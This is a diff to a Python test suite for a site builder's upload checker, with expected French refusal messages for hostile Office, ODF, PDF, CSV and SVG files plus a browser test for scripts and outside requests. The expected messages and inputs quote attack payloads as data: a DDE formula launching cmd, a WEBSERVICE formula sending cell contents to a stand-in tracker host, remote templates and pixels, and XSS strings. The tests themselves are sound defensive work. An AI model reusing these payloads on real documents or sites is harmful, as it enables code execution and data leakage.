@@ -20,6 +20,106 @@ TOOLS = next(p for p in parts.PARTS if p.downloads)  # the part whose page lists
 # Each refused case: the exact lines `make check` prints about that kit (paths from kits/<case>).
 # An empty list means the kit is accepted as it is.
 CHECK_CASES: list[tuple[str, list[str]]] = [
+    # Round two (issue #12), downloads: office documents and PDFs by their structure, CSV formulas, CSS in SVG.
+    ('office-programme', [
+        '/fichiers/guide.docx : Le fichier « fichiers/guide.docx » est refusé : le document contient un programme (« setup.exe ») ; enregistrez-le de nouveau sans macro, objet incorporé ni mot de passe (ou exportez-le en PDF).',
+    ]),
+    ('office-programme-deguise', [
+        '/fichiers/guide.docx : Le fichier « fichiers/guide.docx » est refusé : le document contient un programme (« image1.png ») ; enregistrez-le de nouveau sans macro, objet incorporé ni mot de passe (ou exportez-le en PDF).',
+    ]),
+    ('office-macro-vba', [
+        '/fichiers/guide.docx : Le fichier « fichiers/guide.docx » est refusé : le document contient des macros VBA (« vbaProject.bin ») ; enregistrez-le de nouveau sans macro, objet incorporé ni mot de passe (ou exportez-le en PDF).',
+    ]),
+    ('office-type-macros', [
+        "/fichiers/guide.docx : Le fichier « fichiers/guide.docx » est refusé : le document est d'un type à macros (il s'ouvrirait avec ses macros actives) ; enregistrez-le de nouveau sans macro, objet incorporé ni mot de passe (ou exportez-le en PDF).",
+    ]),
+    ('office-modele-distant', [
+        '/fichiers/guide.docx : Le fichier « fichiers/guide.docx » est refusé : le document charge un élément extérieur à son ouverture (relation « attachedTemplate » vers « http://pisteur.example/modele.dotm ») ; enregistrez-le de nouveau sans macro, objet incorporé ni mot de passe (ou exportez-le en PDF).',
+    ]),
+    ('office-lien-fichier', [
+        "/fichiers/guide.docx : Le fichier « fichiers/guide.docx » est refusé : le document contient un lien « file://serveur/partage/x.exe », d'un type refusé (seuls http://, https:// et mailto: sont acceptés) ; enregistrez-le de nouveau sans macro, objet incorporé ni mot de passe (ou exportez-le en PDF).",
+    ]),
+    ('office-ole', [
+        '/fichiers/tableau.xlsx : Le fichier « fichiers/tableau.xlsx » est refusé : le document contient un objet OLE incorporé (« oleObject1.bin ») ; enregistrez-le de nouveau sans macro, objet incorporé ni mot de passe (ou exportez-le en PDF).',
+    ]),
+    ('office-trop-d-elements', [
+        "/fichiers/guide.docx : Le fichier « fichiers/guide.docx » est refusé : le document contient 2003 éléments, au-delà des 2000 qu'un document ordinaire ne dépasse jamais ; enregistrez-le de nouveau sans macro, objet incorporé ni mot de passe (ou exportez-le en PDF).",
+    ]),
+    ('office-champ-dde', [
+        '/fichiers/guide.docx : Le fichier « fichiers/guide.docx » est refusé : le document contient un champ « DDEAUTO », qui lance un programme ou charge un contenu extérieur ; enregistrez-le de nouveau sans macro, objet incorporé ni mot de passe (ou exportez-le en PDF).',
+    ]),
+    ('office-formule-dde', [
+        "/fichiers/tableau.xlsx : Le fichier « fichiers/tableau.xlsx » est refusé : le document contient une formule qui appelle un autre programme ou une adresse (« cmd|' /C calc'!A0 ») ; enregistrez-le de nouveau sans macro, objet incorporé ni mot de passe (ou exportez-le en PDF).",
+    ]),
+    ('ods-macro-basic', [
+        '/fichiers/tableau.ods : Le fichier « fichiers/tableau.ods » est refusé : le document contient des macros (dossier « Basic ») ; enregistrez-le de nouveau sans macro, objet incorporé ni mot de passe (ou exportez-le en PDF).',
+    ]),
+    ('ods-macro-evenement', [
+        '/fichiers/tableau.ods : Le fichier « fichiers/tableau.ods » est refusé : le document contient une macro liée à un événement ; enregistrez-le de nouveau sans macro, objet incorporé ni mot de passe (ou exportez-le en PDF).',
+    ]),
+    ('ods-formule-webservice', [
+        '/fichiers/tableau.ods : Le fichier « fichiers/tableau.ods » est refusé : le document contient une formule qui appelle un autre programme ou une adresse (« of:=WEBSERVICE("https://pisteur.example/?"&[.A2]) ») ; enregistrez-le de nouveau sans macro, objet incorporé ni mot de passe (ou exportez-le en PDF).',
+    ]),
+    ('odt-dde', [
+        "/fichiers/texte.odt : Le fichier « fichiers/texte.odt » est refusé : le document contient une liaison DDE (données d'un autre programme) ; enregistrez-le de nouveau sans macro, objet incorporé ni mot de passe (ou exportez-le en PDF).",
+    ]),
+    ('odt-image-distante', [
+        '/fichiers/texte.odt : Le fichier « fichiers/texte.odt » est refusé : le document charge un élément extérieur à son ouverture (« http://pisteur.example/pixel.png ») ; enregistrez-le de nouveau sans macro, objet incorporé ni mot de passe (ou exportez-le en PDF).',
+    ]),
+    ('odt-chiffre', [
+        '/fichiers/texte.odt : Le fichier « fichiers/texte.odt » est refusé : le document est chiffré (protégé par un mot de passe) : la vérification ne peut pas en lire le contenu ; enregistrez-le de nouveau sans macro, objet incorporé ni mot de passe (ou exportez-le en PDF).',
+    ]),
+    ('pdf-javascript', [
+        "/fichiers/guide.pdf : Le fichier « fichiers/guide.pdf » est refusé : le PDF contient du JavaScript (« /JavaScript ») ; exportez-le de nouveau en PDF simple (« Imprimer » puis « Enregistrer au format PDF », ou l'export PDF de votre traitement de texte).",
+    ]),
+    ('pdf-nom-code', [
+        "/fichiers/guide.pdf : Le fichier « fichiers/guide.pdf » est refusé : le PDF contient du JavaScript (« /JavaScript ») ; exportez-le de nouveau en PDF simple (« Imprimer » puis « Enregistrer au format PDF », ou l'export PDF de votre traitement de texte).",
+    ]),
+    ('pdf-lancement', [
+        "/fichiers/guide.pdf : Le fichier « fichiers/guide.pdf » est refusé : le PDF contient une action qui lance un programme (« /Launch ») ; exportez-le de nouveau en PDF simple (« Imprimer » puis « Enregistrer au format PDF », ou l'export PDF de votre traitement de texte).",
+    ]),
+    ('pdf-fichier-joint', [
+        "/fichiers/guide.pdf : Le fichier « fichiers/guide.pdf » est refusé : le PDF contient des fichiers incorporés (« /EmbeddedFiles ») ; exportez-le de nouveau en PDF simple (« Imprimer » puis « Enregistrer au format PDF », ou l'export PDF de votre traitement de texte).",
+    ]),
+    ('pdf-flux-objets', [
+        "/fichiers/guide.pdf : Le fichier « fichiers/guide.pdf » est refusé : le PDF contient du JavaScript (« /JavaScript ») ; exportez-le de nouveau en PDF simple (« Imprimer » puis « Enregistrer au format PDF », ou l'export PDF de votre traitement de texte).",
+    ]),
+    ('pdf-chiffre', [
+        "/fichiers/guide.pdf : Le fichier « fichiers/guide.pdf » est refusé : le PDF contient un chiffrement qui empêche la vérification de lire son contenu (« /Encrypt ») ; exportez-le de nouveau en PDF simple (« Imprimer » puis « Enregistrer au format PDF », ou l'export PDF de votre traitement de texte).",
+    ]),
+    ('csv-formule-lien', [
+        "/fichiers/grille.csv, ligne 2 : Le fichier « fichiers/grille.csv » est refusé : la cellule B2 commence par « = » : un tableur l'exécuterait comme une formule, qui peut ouvrir une adresse ou lancer un programme ; retirez ce signe (ou commencez la cellule par un autre caractère, « – » plutôt que « - » par exemple), ou publiez le calcul en .ods.",
+    ]),
+    ('csv-formule-dde', [
+        "/fichiers/grille.csv, ligne 3 : Le fichier « fichiers/grille.csv » est refusé : la cellule B3 commence par « = » : un tableur l'exécuterait comme une formule, qui peut ouvrir une adresse ou lancer un programme ; retirez ce signe (ou commencez la cellule par un autre caractère, « – » plutôt que « - » par exemple), ou publiez le calcul en .ods.",
+    ]),
+    ('csv-formule-arobase', [
+        "/fichiers/grille.csv, ligne 2 : Le fichier « fichiers/grille.csv » est refusé : la cellule A2 commence par « @ » : un tableur l'exécuterait comme une formule, qui peut ouvrir une adresse ou lancer un programme ; retirez ce signe (ou commencez la cellule par un autre caractère, « – » plutôt que « - » par exemple), ou publiez le calcul en .ods.",
+    ]),
+    ('csv-formule-guillemets', [
+        "/fichiers/grille.csv, ligne 2 : Le fichier « fichiers/grille.csv » est refusé : la cellule B2 commence par « = » : un tableur l'exécuterait comme une formule, qui peut ouvrir une adresse ou lancer un programme ; retirez ce signe (ou commencez la cellule par un autre caractère, « – » plutôt que « - » par exemple), ou publiez le calcul en .ods.",
+    ]),
+    ('csv-formule-moins', [
+        "/fichiers/grille.csv, ligne 2 : Le fichier « fichiers/grille.csv » est refusé : la cellule B2 commence par « - » : un tableur l'exécuterait comme une formule, qui peut ouvrir une adresse ou lancer un programme ; retirez ce signe (ou commencez la cellule par un autre caractère, « – » plutôt que « - » par exemple), ou publiez le calcul en .ods.",
+    ]),
+    ('csv-formule-tabulation', [
+        "/fichiers/grille.csv, ligne 2 : Le fichier « fichiers/grille.csv » est refusé : la cellule B2 commence par une tabulation ou un retour à la ligne, qu'un tableur peut lire comme le début d'une formule ; retirez-le.",
+    ]),
+    ('svg-css-echappe', [
+        "/fichiers/dessin.svg : Le fichier « fichiers/dessin.svg » est refusé : l'image SVG appelle une ressource extérieure avec « url(…) » ; exportez le dessin en PNG, ou en « SVG simple » sans script ni style.",
+    ]),
+    ('svg-css-hexa', [
+        "/fichiers/dessin.svg : Le fichier « fichiers/dessin.svg » est refusé : l'image SVG appelle une ressource extérieure avec « url(…) » ; exportez le dessin en PNG, ou en « SVG simple » sans script ni style.",
+    ]),
+    ('svg-css-image-set', [
+        "/fichiers/dessin.svg : Le fichier « fichiers/dessin.svg » est refusé : l'image SVG appelle une ressource extérieure avec « image-set(…) » ; exportez le dessin en PNG, ou en « SVG simple » sans script ni style.",
+    ]),
+    ('svg-css-import-commentaire', [
+        "/fichiers/dessin.svg : Le fichier « fichiers/dessin.svg » est refusé : l'image SVG appelle une ressource extérieure avec « @import » ; exportez le dessin en PNG, ou en « SVG simple » sans script ni style.",
+    ]),
+    ('svg-css-entite', [
+        "/fichiers/dessin.svg : Le fichier « fichiers/dessin.svg » est refusé : l'image SVG appelle une ressource extérieure avec « url(…) » ; exportez le dessin en PNG, ou en « SVG simple » sans script ni style.",
+    ]),
     # Round two (issue #12): pages a kit file could replace, front matter, control bytes, dates, links hidden in
     # containers, inputs that made a scan quadratic.
     ('collision-accents', [
@@ -75,10 +175,12 @@ CHECK_CASES: list[tuple[str, list[str]]] = [
         "/illustrations.md, ligne 3 : Le texte contient un caractère invisible interdit (U+0000), souvent venu d'un copier-coller ; supprimez-le (retapez la ligne indiquée).",
     ]),
     ('regex-balise-ouverte', [
+        '/methodologie.md, ligne 3 : La partie contient 120\u202f000 « < », « [ » ou « ]( » qui ne se ferment pas sur leur ligne, à partir de celle-ci : au-delà de 100, le moteur du site mettrait des minutes à construire la page. Fermez-les (« > », « ] », « ) »), ou écrivez « &lt; » et « \\[ » pour les afficher tels quels.',
     ]),
     ('regex-gabarit-ouvert', [
     ]),
     ('regex-lien-ouvert', [
+        '/methodologie.md, ligne 3 : La partie contient 100\u202f000 « < », « [ » ou « ]( » qui ne se ferment pas sur leur ligne, à partir de celle-ci : au-delà de 100, le moteur du site mettrait des minutes à construire la page. Fermez-les (« > », « ] », « ) »), ou écrivez « &lt; » et « \\[ » pour les afficher tels quels.',
         '/methodologie.md, ligne 3 : Le lien « <[x] » mène à un fichier introuvable dans le dossier du kit ; vérifiez son nom (majuscules, accents, extension).',
     ]),
     ('ressource-imprimer-md', [
@@ -303,7 +405,7 @@ def test_every_case_folder_is_in_a_table() -> None:
     folders = {p.name for p in HOSTILE.iterdir() if p.is_dir() and not p.name.startswith("_")}
     tabled = {c for c, _ in CHECK_CASES} | {c for c, *_ in BUILD_CASES} | {"registres-piegés", "registre-alias"}
     assert folders == tabled
-    assert len(folders) >= 40
+    assert len(folders) >= 100
 
 
 def test_registry_with_alias_is_refused(tmp_path: Path) -> None:
@@ -348,6 +450,15 @@ BUILD_CASES: list[tuple[str, str, list[str], list[str]]] = [
     ("html-input-texte", "kits/html-input-texte/methodologie.html",
      ['<input type="checkbox" checked="">'],
      [r'type="text"', r'type="password"', r"<input(?![^>]*checkbox)[^>]*>"]),
+    # Titles and summaries are text: shown as written, no Markdown, no HTML, no icon.
+    ("titres-markdown", "kits/titres-markdown/index.html",
+     ["Kit **gras** :material-alert: [clic](https://pisteur.example/) &amp;amp; C#", "<p>- une liste ?</p>",
+      "2024. Une année {: onclick=alert(1) } ![x](https://pisteur.example/p.png)", "`code` _italique_ *[ABBR]: sigle"],
+     [r"<strong>gras", r"pisteur\.example/\"", r"<abbr", r"<em>italique", r"<li>une liste"]),
+    # Accepted downloads: a PDF with an ordinary link, signed numbers in a CSV, an SVG gradient of its own.
+    ("pdf-lien", "kits/pdf-lien/index.html", [], []),
+    ("csv-nombres-signes", "kits/csv-nombres-signes/index.html", [], []),
+    ("svg-css-url-interne", "kits/svg-css-url-interne/index.html", [], []),
     ("contenu-autorise", "kits/contenu-autorise/cadre-de-reference.html",
      ["<table>", '<div class="admonition note">', '<details class="tip">', '<div class="footnote">',
       '<div class="highlight">', '<span class="twemoji"><svg xmlns="http://www.w3.org/2000/svg" viewBox="0 0 24 24">',
@@ -455,7 +566,9 @@ def test_allowed_files_are_published(built: Path) -> None:
     assert (files / "photo.png").is_file()
     # Nothing but the accepted files of the kits is copied.
     published = {p.suffix for p in built.rglob("*") if p.is_file() and "/kits/" in p.as_posix()}
-    assert published <= {".html", ".csv", ".ods", ".svg", ".png"}
+    assert published <= {".html", ".csv", ".ods", ".svg", ".png", ".pdf"}
+    assert (built / "kits" / "pdf-lien" / "fichiers" / "guide.pdf").is_file()
+    assert (built / "kits" / "csv-nombres-signes" / "fichiers" / "grille.csv").is_file()
 
 
 def test_check_is_clean_for_build_cases(tmp_path: Path) -> None:
@@ -473,3 +586,51 @@ def test_check_is_clean_for_build_cases(tmp_path: Path) -> None:
     assert ("kits/html-balises/illustrations.md, ligne 31 : Avertissement — L'attribut « onclick » de la balise "
             "« <a> » n'est pas accepté par le site : il sera retiré de la page (voir « Contenus autorisés » dans la "
             "rubrique À propos du site).") in result.stdout
+
+
+def test_registry_figures_are_text_on_the_about_page(built: Path) -> None:
+    # docs/a-propos.md is a trusted page, but its figures come from chiffres.yml: literal text, then sanitised.
+    html = (built / "a-propos.html").read_text(encoding="utf-8")
+    content = ARTICLE.search(html).group(1)
+    assert "<td>![x](#){: onerror=alert(document.domain) }</td>" in content
+    assert "<td>[clic](javascript:alert('libelle'))</td>" in content
+    assert "![pisteur](https://pisteur.example/pixel.png) &lt;img src=https://pisteur.example/i.png&gt; | colonne" in content
+    tags = "\n".join(re.findall(r"<[A-Za-z][^<>]*>", content))
+    for pattern in ACTIVE + [r"<img", r"pisteur\.example", r"<a [^>]*javascript"]:
+        assert not re.search(pattern, tags), pattern
+
+
+# A sample of built hostile pages and images, opened from disk in Chromium: no dialog may open, no request may
+# leave the folder (file://), whatever the kits and registries hold.
+BROWSER_SAMPLE = [
+    "a-propos.html", "index.html", "kits/html-titres/index.html", "kits/html-balises/illustrations.html",
+    "kits/html-attr-list/boite-a-outils.html", "kits/gabarit-partie/cadre-de-reference.html",
+    "kits/html-input-texte/methodologie.html", "kits/titres-markdown/index.html",
+    "kits/contenu-autorise/fichiers/schema.svg", "kits/svg-css-url-interne/fichiers/dessin.svg",
+]
+
+
+def test_no_script_and_no_outside_request_in_chromium(built: Path, browser) -> None:
+    context = browser.new_context()
+    dialogs: list[str] = []
+    outside: list[str] = []
+    page = context.new_page()
+    page.on("dialog", lambda dialog: (dialogs.append(dialog.message), dialog.dismiss()))
+    page.on("request", lambda request: None if request.url.startswith(("file://", "data:", "about:"))
+            else outside.append(request.url))
+    try:
+        for path in BROWSER_SAMPLE:
+            page.goto((built / path).as_uri())
+            page.wait_for_load_state("load")
+            page.wait_for_timeout(100)  # let timers and lazy images run
+            # Every link and image of the page, hovered and loaded: nothing may fire.
+            for img in page.locator("img").all():
+                img.scroll_into_view_if_needed()
+        assert dialogs == [], dialogs
+        assert outside == [], outside
+        # The text input of html-input-texte is gone; its task-list checkbox stayed.
+        page.goto((built / "kits/html-input-texte/methodologie.html").as_uri())
+        assert page.locator("article input:not([type=checkbox])").count() == 0
+        assert page.locator("article input[type=checkbox]").count() == 1
+    finally:
+        context.close()
